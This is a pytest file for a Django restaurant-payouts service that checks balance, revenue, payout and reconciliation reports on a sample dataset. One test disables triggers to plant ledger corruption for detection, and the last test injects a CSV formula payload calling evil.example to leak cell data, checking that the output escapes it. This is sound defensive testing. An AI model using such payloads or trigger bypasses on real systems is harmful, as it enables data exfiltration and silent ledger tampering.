"""The SQL reports Q1–Q4 on the loaded sample dataset, row for row."""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta

import pytest
from django.db import connection

from payouts.models import Payout
from payouts.services import payout_run_execute, payout_run_request
from processor.ingestion import event_ingest
from processor.models import Event
from tests.factories import EventPayloadFactory

from .conftest import SAMPLE, expected_sample_balances, run_command

pytestmark = pytest.mark.django_db


def report(*args) -> list[dict]:
    status, out, err = run_command("report", *args, "--format", "json")
    assert status == 0, err
    return json.loads(out)


def test_q1_lists_every_restaurant_of_the_currency_with_the_readme_balances(sample_loaded):
    rows = report("q1", "--currency", "USD")
    assert rows == [
        {"restaurant_id": "res_003", "currency": "USD", "available": 231088, "pending": 0, "reserved": 0,
         "last_event_at": "2025-12-20T11:27:15+00:00"},
        {"restaurant_id": "res_006", "currency": "USD", "available": 455530, "pending": 0, "reserved": 0,
         "last_event_at": "2025-12-28T04:37:59+00:00"},
        {"restaurant_id": "res_007", "currency": "USD", "available": 551985, "pending": 0, "reserved": 0,
         "last_event_at": "2025-12-20T22:45:18+00:00"},
        {"restaurant_id": "res_008", "currency": "USD", "available": 297378, "pending": 0, "reserved": 0,
         "last_event_at": "2025-12-19T08:40:12+00:00"},
        {"restaurant_id": "res_012", "currency": "USD", "available": -4200, "pending": 0, "reserved": 0,
         "last_event_at": "2025-11-20T18:30:00+00:00"},
    ]
    for currency in ("PEN", "MXN"):
        readme = {key[0]: figures for key, figures in expected_sample_balances().items() if key[1] == currency}
        assert {row["restaurant_id"]: {name: row[name] for name in ("available", "pending", "reserved")}
                for row in report("q1", "--currency", currency)} == readme


def test_q1_shows_charges_as_pending_until_they_mature(sample_loaded):
    # Read as of 2025-12-24 noon UTC: charges of the last 7 days have not matured yet.
    rows = {row["restaurant_id"]: row for row in report("q1", "--currency", "USD", "--now", "2025-12-24T12:00:00Z")}
    # Pending = entries effective after the reading: charges occurring after 2025-12-17 12:00 (not
    # matured) and, since the sample holds later facts too, refunds occurring after 2025-12-24 12:00.
    now = datetime(2025, 12, 24, 12, tzinfo=UTC)
    expected_pending = 0
    for event in _sample_events():
        if (event["restaurant_id"], event["currency"]) != ("res_006", "USD"):
            continue
        occurred_at = datetime.fromisoformat(event["occurred_at"])
        if event["event_type"] == "charge_succeeded" and occurred_at + timedelta(days=7) > now:
            expected_pending += event["amount"] - event["fee"]
        elif event["event_type"] == "refund_succeeded" and occurred_at > now:
            expected_pending -= event["amount"] - event["fee"]
    assert expected_pending > 0
    assert rows["res_006"]["pending"] == expected_pending
    assert rows["res_006"]["available"] + rows["res_006"]["pending"] == 455530


def _sample_events() -> list[dict]:
    first: dict[str, dict] = {}
    for line in SAMPLE.read_text().splitlines():
        event = json.loads(line)
        first.setdefault(event["event_id"], event)
    return list(first.values())


def _net_revenue(currency: str, until: datetime) -> list[tuple[str, int]]:
    """Q2 computed by hand from the sample file: top 10 of charges − fees − refunds + fees returned."""
    totals: dict[str, int] = {}
    for event in _sample_events():
        if event["event_type"] not in ("charge_succeeded", "refund_succeeded"):
            continue  # Q2 is sales: a dispute is not revenue (nor a refund)
        moment = datetime.fromisoformat(event["occurred_at"])
        if event["currency"] == currency and until - timedelta(days=7) <= moment < until:
            sign = 1 if event["event_type"] == "charge_succeeded" else -1
            totals[event["restaurant_id"]] = totals.get(event["restaurant_id"], 0) + sign * (
                event["amount"] - event["fee"])
    return sorted(totals.items(), key=lambda item: (-item[1], item[0]))[:10]


def test_q2_ranks_restaurants_by_net_revenue_of_the_seven_days_up_to_until(sample_loaded):
    rows = report("q2", "--currency", "MXN", "--until", "2025-12-15")
    # The end of 2025-12-15 in America/Lima is 2025-12-16 05:00 UTC.
    assert [(row["restaurant_id"], row["net_revenue"]) for row in rows] == _net_revenue(
        "MXN", datetime(2025, 12, 16, 5, tzinfo=UTC))
    assert rows[0] == {"restaurant_id": "res_009", "currency": "MXN", "charges": 9, "gross_sales": 887400,
                       "fees": 38729, "refunds": 106800, "fee_refunds": 4432, "net_revenue": 746303}
    rows = report("q2", "--currency", "PEN", "--until", "2025-11-30")
    assert [(row["restaurant_id"], row["net_revenue"]) for row in rows] == _net_revenue(
        "PEN", datetime(2025, 12, 1, 5, tzinfo=UTC))
    assert len(rows) == 6
    assert report("q2", "--currency", "PEN") == []  # nothing happened in the last 7 days


def test_q3_agrees_with_the_payout_run_to_the_cent(sample_loaded):
    rows = report("q3", "--currency", "PEN", "--as-of", "2025-12-20", "--min-amount", "900000")
    assert [(row["restaurant_id"], row["available_now"], row["available_at_cutoff"], row["amount"],
             row["decision"]) for row in rows] == [
        ("res_001", 1615246, 1392296, 1392296, "eligible"),
        ("res_002", 1612721, 1506378, 1506378, "eligible"),
        ("res_003", 922700, 855049, 855049, "below_minimum"),
        ("res_004", 1814219, 1534112, 1534112, "eligible"),
        ("res_005", 1962613, 1767283, 1767283, "eligible"),
        ("res_011", 969219, 872232, 872232, "below_minimum"),
    ]
    run = payout_run_request(currency="PEN", as_of=date(2025, 12, 20), min_amount=900000, enqueue=False)
    payout_run_execute(run_id=run.pk)
    paid = dict(Payout.objects.filter(run=run).values_list("restaurant_id", "amount"))
    assert paid == {row["restaurant_id"]: row["amount"] for row in rows if row["decision"] == "eligible"}

    after = report("q3", "--currency", "PEN", "--as-of", "2025-12-20", "--min-amount", "900000")
    by_restaurant = {row["restaurant_id"]: row for row in after}
    assert by_restaurant["res_001"]["decision"] == "already_paid"
    assert by_restaurant["res_001"]["payout_id"] == Payout.objects.get(restaurant_id="res_001").pk
    assert by_restaurant["res_003"]["decision"] == "below_minimum"
    # A later as_of pays what the first payout left (funds matured after 2025-12-20), and no more.
    later = {row["restaurant_id"]: row for row in report("q3", "--currency", "PEN", "--as-of", "2026-01-31",
                                                         "--min-amount", "1")}
    assert later["res_001"]["amount"] == 1615246 - 1392296
    assert later["res_003"]["amount"] == 922700
    run = payout_run_request(currency="PEN", as_of=date(2026, 1, 31), min_amount=1, enqueue=False)
    payout_run_execute(run_id=run.pk)
    assert dict(Payout.objects.filter(run=run).values_list("restaurant_id", "amount")) == {
        restaurant_id: row["amount"] for restaurant_id, row in later.items()}


SAMPLE_FINDINGS = [
    {"problem": "negative_balance", "restaurant_id": "res_012", "currency": "USD", "reference": "res_012",
     "amount": -4200, "detail": "available -4200: the restaurant owes us"},
    {"problem": "refund_exceeds_charge", "restaurant_id": "res_012", "currency": "USD", "reference": "pay_neg_001",
     "amount": 4000, "detail": "refunded 9000 of 5000 charged"},
    {"problem": "refund_unknown_payment", "restaurant_id": "res_004", "currency": "PEN",
     "reference": "pay_unknown_999", "amount": 2500, "detail": "1 refund(s) of a payment never charged"},
]


def test_q4_lists_the_sample_findings_exactly(sample_loaded):
    assert report("q4") == SAMPLE_FINDINGS


def test_q4_finds_a_payment_charged_twice_an_unbalanced_transaction_and_a_payout_whose_items_do_not_sum(
    sample_loaded,
):
    original = Event.objects.get(payment_id="pay_00001", event_type="charge_succeeded")
    event_ingest(payload=EventPayloadFactory(event_id="evt_double", restaurant_id=original.restaurant_id,
                                             currency=original.currency, amount=10000, fee=300,
                                             occurred_at="2025-11-10T10:00:00Z",
                                             metadata={"payment_id": "pay_00001"}))
    run = payout_run_request(currency="MXN", as_of=date(2026, 1, 31), min_amount=1, enqueue=False)
    payout_run_execute(run_id=run.pk)
    payout = Payout.objects.get(restaurant_id="res_009")
    with connection.cursor() as cursor:
        # Check what is pending now, then write behind the triggers' back, as a bad manual fix would.
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        cursor.execute("ALTER TABLE ledger_entry DISABLE TRIGGER USER")
        cursor.execute("ALTER TABLE payouts_payoutitem DISABLE TRIGGER USER")
        cursor.execute(
            """INSERT INTO ledger_entry (transaction_id, account_id, currency, amount, entry_type, effective_at)
               SELECT transaction_id, account_id, currency, 7, entry_type, effective_at
                 FROM ledger_entry WHERE transaction_id = (SELECT id FROM ledger_transaction WHERE memo = 'evt_double')
                  AND account_id = (SELECT id FROM ledger_account WHERE kind = 'processor_clearing'
                                       AND currency = %s)
                LIMIT 1""",
            [original.currency],
        )
        cursor.execute("UPDATE payouts_payoutitem SET amount = amount - 5 WHERE payout_id = %s AND type = 'fees'",
                       [payout.pk])
        cursor.execute("ALTER TABLE ledger_entry ENABLE TRIGGER USER")
        cursor.execute("ALTER TABLE payouts_payoutitem ENABLE TRIGGER USER")
        cursor.execute("SET CONSTRAINTS ALL DEFERRED")
        cursor.execute("SELECT id FROM ledger_transaction WHERE memo = 'evt_double'")
        transaction_id = cursor.fetchone()[0]
    findings = [row for row in report("q4") if row not in SAMPLE_FINDINGS]
    assert findings == [
        {"problem": "duplicate_charge", "restaurant_id": original.restaurant_id, "currency": original.currency,
         "reference": "pay_00001", "amount": original.amount + 10000, "detail": "payment charged by 2 events"},
        {"problem": "payout_items_mismatch", "restaurant_id": "res_009", "currency": "MXN", "reference": payout.pk,
         "amount": 5, "detail": f"items sum to {payout.amount - 5}, amount is {payout.amount}"},
        {"problem": "unbalanced_transaction", "restaurant_id": original.restaurant_id, "currency": original.currency,
         "reference": str(transaction_id), "amount": 7, "detail": "entries sum to 7, not 0"},
    ]


def test_reports_print_csv_off_a_terminal_and_need_their_parameters(sample_loaded):
    status, out, _ = run_command("report", "q4")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["problem"] for row in rows] == ["negative_balance", "refund_exceeds_charge", "refund_unknown_payment"]
    assert rows[0]["amount"] == "-4200"
    status, out, _ = run_command("report", "q1", "--currency", "MXN", "--format", "table")
    lines = out.splitlines()
    assert lines[0] == "Q1 · Balances of all restaurants in a currency"
    assert lines[1].split() == ["restaurant_id", "currency", "available", "pending", "reserved", "last_event_at"]
    assert lines[-1] == "(4 rows)"
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="q3 needs --as-of"):
        run_command("report", "q3", "--currency", "PEN")
    with pytest.raises(CommandError, match="Unsupported currency 'EUR'"):
        run_command("report", "q1", "--currency", "EUR")


def test_csv_cells_cannot_run_as_spreadsheet_formulas(sample_loaded):
    # A refund of a payment never charged is reported by Q4 with its payment_id, as the processor sent it.
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    event_ingest(payload=EventPayloadFactory(
        event_id="evt_formula", event_type="refund_succeeded", restaurant_id="res_001", currency="PEN",
        amount=100, fee=0, occurred_at="2025-12-30T10:00:00Z", metadata={"payment_id": link}))
    status, out, _ = run_command("report", "q4", "--format", "csv")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    [row] = [row for row in rows if row["problem"] == "refund_unknown_payment" and "HYPERLINK" in row["reference"]]
    assert row["reference"] == "'" + link  # shown as text, not run
    assert rows[0]["amount"] == "-4200"  # numbers stay numbers, negative ones included
    # JSON is not a spreadsheet: the value is exactly what was recorded.
    assert link in [finding["reference"] for finding in report("q4")]
